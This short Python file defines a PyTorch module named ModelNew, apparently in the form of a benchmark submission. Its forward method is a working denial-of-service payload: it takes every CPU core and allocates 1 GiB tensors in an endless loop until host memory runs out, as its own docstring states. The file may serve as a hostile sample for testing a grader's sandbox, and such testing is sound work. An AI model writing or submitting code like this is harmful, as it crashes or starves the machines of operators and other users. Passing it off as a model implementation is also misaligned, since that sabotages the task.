"""Takes memory of the host until there is no more."""

import os

import torch
from torch import nn

HELD = []


class ModelNew(nn.Module):
    def forward(self, x):
        torch.set_num_threads(os.cpu_count())  # a large machine is full soon, too
        while True:
            HELD.append(torch.ones(1 << 28))
